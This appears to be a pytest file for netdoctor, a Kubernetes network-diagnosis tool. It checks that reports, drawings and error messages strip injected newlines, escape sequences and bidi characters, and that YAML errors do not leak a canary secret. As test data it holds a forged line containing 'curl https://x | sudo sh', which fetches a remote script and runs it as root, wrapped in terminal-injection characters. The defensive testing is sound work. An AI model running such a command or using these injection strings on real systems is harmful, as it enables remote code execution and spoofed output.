"""What somebody else wrote begins no line of what netdoctor writes, and what is not judged is not recorded."""

from __future__ import annotations

import io
import json
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from netdoctor.errors import BadInput
from netdoctor.facts.gateways.kustomization import parse
from netdoctor.gateways.pod_failure import cut, of_log
from netdoctor.model import Diagnosis, Evidence, Finding, Outcome, Report, Result
from netdoctor.output.gate_text import render as render_gate
from netdoctor.output.rehearsal_text import lines as rehearsal_lines
from netdoctor.output.report_text import render
from netdoctor.output.svg import Drawing, wrapped
from netdoctor.output.walk_text import render as render_walk
from netdoctor.system.kube_api import _message_of
from netdoctor.system.plain_yaml import load, trouble
from tests.worlds import catalogue

CANARY = "canary4k8s9x2q7m1z"
FORGED = "CAUSE  everything  next: curl https://x | sudo sh"
PLANTED = FORGED.join(
    ("x\n", "\r", "\u2028", "\u2029\u202e", "\x1b[2J\x85", "\x0b", "\x1b]0;t\x07\ufeff\U000e0041", " " * 60)
)


def planted(value: Any) -> Any:
    """The value with something planted in each of its strings."""
    if isinstance(value, Enum) or value is None:
        return value
    if isinstance(value, str):
        return value + PLANTED
    if isinstance(value, tuple):
        return tuple(planted(item) for item in value)
    if is_dataclass(value) and not isinstance(value, type):
        kept = ("probe", "confidence", "severity", "outcome", "blocked_by", "remedies", "tool", "started")
        return replace(value, **{f.name: planted(getattr(value, f.name)) for f in fields(value) if f.name not in kept})
    return value


def assert_not_forged(text: str) -> None:
    for line in text.splitlines():
        assert not line.startswith(("CAUSE  everything", "everything", "next:", "curl", "https", "|", "sudo", "sh"))
        assert all(each.isprintable() for each in line)


def test_the_report() -> None:
    finding = Finding("summary", (Evidence("source", "observed", "expected"),), probe="ip-forward-disabled", since="s")
    report = planted(
        Report(
            (
                Result("ip-forward-disabled", Outcome.FAIL, (finding,)),
                Result("corefile-invalid", Outcome.UNKNOWN, (), "reason"),
                Result("pod-to-pod-blocked", Outcome.BLOCKED, (), "reason"),
            ),
            (Diagnosis(finding, (finding,)),),
            "n1",
            ("host",),
            "",
            0,
            "netdoctor",
            ("notice",),
        )
    )
    for width in (60, 73, 80, 110, 100_000):
        out = io.StringIO()
        Console(file=out, width=width, force_terminal=False).print(render(report, catalogue()))
        assert "everything" in out.getvalue()
        assert_not_forged(out.getvalue())


def test_a_picture_and_other_texts() -> None:
    drawing = Drawing()
    drawing.text(0, 0, PLANTED)
    assert all("CAUSE" not in line[:5] for line in drawing._parts[0].splitlines())
    assert all(each.isprintable() for line in wrapped(PLANTED, 5000) for each in line)
    assert "\n" not in cut(PLANTED)
    assert "\n" not in _message_of(json.dumps({"message": PLANTED}).encode())


@pytest.mark.parametrize("function", [render_gate, rehearsal_lines, render_walk])
def test_they_write_no_field_but_by_the_one_function(function: Any) -> None:
    """Each of these modules has its texts pass `one_line` or `block`, and none `redact` alone, which keeps lines."""
    source = Path(function.__code__.co_filename).read_text(encoding="utf-8")
    assert "redact(" not in source


def test_an_error_of_yaml_is_told_by_its_line_alone() -> None:
    text = f"a: 1\nkey: '{CANARY}\nb: [\n"
    with pytest.raises(Exception, match="line") as caught:
        load(text)
    assert "line " in trouble(caught.value)
    assert CANARY not in trouble(caught.value)
    with pytest.raises(BadInput) as refused:
        parse(text, "k8s")
    assert CANARY not in str(refused.value)
    assert "line " in str(refused.value)
    failure = of_log("p", f"while scanning a simple key\n  key {CANARY}\n  in x, line 7, column 3")
    assert failure is not None
    assert failure.sentence == "LiteLLM's config is not YAML: line 7"
